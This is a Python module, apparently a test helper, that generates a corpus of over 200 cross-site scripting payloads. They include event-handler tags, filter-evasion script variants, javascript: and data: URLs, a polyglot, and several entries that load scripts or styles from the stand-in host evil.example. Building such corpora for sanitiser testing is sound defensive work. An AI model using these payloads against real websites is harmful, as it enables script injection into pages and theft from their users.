"""Texts by which strangers try to make a page run their script: families of them, over 200 in all.

Whatever script of theirs ran would call `alert`, which a test notices, or ask a foreign server.
"""

from itertools import product

TAGS = [
    "img src=x", "img src", "image src=x", "svg", "body", "video src=x", "video><source",
    "audio src=x", "input autofocus", "select autofocus", "textarea autofocus", "keygen autofocus",
    "details open", "marquee", "iframe", "object data=x", "embed src=x", "math", "style",
    "link rel=stylesheet href=x", "a tabindex=1", "form", "div contenteditable", "frameset",
    "table background=x", "x tabindex=1",
]  # fmt: skip
EVENTS = [
    "onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onpageshow",
    "onanimationstart",
]  # fmt: skip
SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<script>alert`1`</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
]  # fmt: skip
CLOSING = [
    "</title>", "</textarea>", "</style>", "</script>", "</svg>", "</option></select>", "-->",
    "]]>", '">', "'>", "`>", '" autofocus onfocus=alert(1) x="', "' onmouseover='alert(1)' x='",
    "\\\">", "</text></g></svg>", "</button></li></ul>", "%>", "*/",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/x.js",
    "blob:https://evil.example/1",
]
HOLDERS = [
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type=submit></form>',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
]
STYLES = [
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    '<div style="background:url(//evil.example/x)">',
    '<div style="width:expression(alert(1))">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img src=//evil.example/x.png>",
    "<img srcset=//evil.example/x.png>",
    "<video poster=//evil.example/x.png>",
    "<link rel=prefetch href=//evil.example/x>",
    "};alert(1);//",
]
CODE = [
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "');alert(1);//",
    "\");alert(1);//",
    "\\');alert(1);//",
    "`;alert(1);//",
    "\u2028alert(1)\u2028",
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    "__proto__",
    "constructor",
    "toString",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u0000script>alert(1)</script>".replace("\u0000", "\ufffd"),
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa"
    "/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "event: position\ndata: {\"problem\": \"<img src=x onerror=alert(1)>\"}\n\n",
]  # fmt: skip


def payloads() -> list[str]:
    """Return all of them, each once."""
    tags = [f"<{tag} {event}=alert(1)>" for tag, event in product(TAGS, EVENTS[:4])]
    others = [f"<{tag} {event}=alert(1)>" for tag, event in zip(TAGS, EVENTS * 4, strict=False)]
    closing = [f"{text}<img src=x onerror=alert(1)>" for text in CLOSING]
    held = [holder.format(address) for holder, address in product(HOLDERS, ADDRESSES[::2])]
    every = [*SCRIPTS, *closing, *tags, *others, *ADDRESSES, *held, *STYLES, *CODE]
    return list(dict.fromkeys(every))


def sample(count: int) -> list[str]:
    """Return some of every family."""
    every = payloads()
    return every[:: max(1, len(every) // count)]


def word(payload: str) -> str:
    """Return a payload as one word of KIF: without brackets, spaces and semicolons.

    >>> word("<img src=x onerror=alert(1)>")
    '<img/src=x/onerror=alert`1`>'
    """
    plain = payload.replace("alert(1)", "alert`1`").replace("()", "``")
    plain = "".join("/" if char.isspace() else char for char in plain if char not in "();")
    return plain.lstrip("?") or "x"
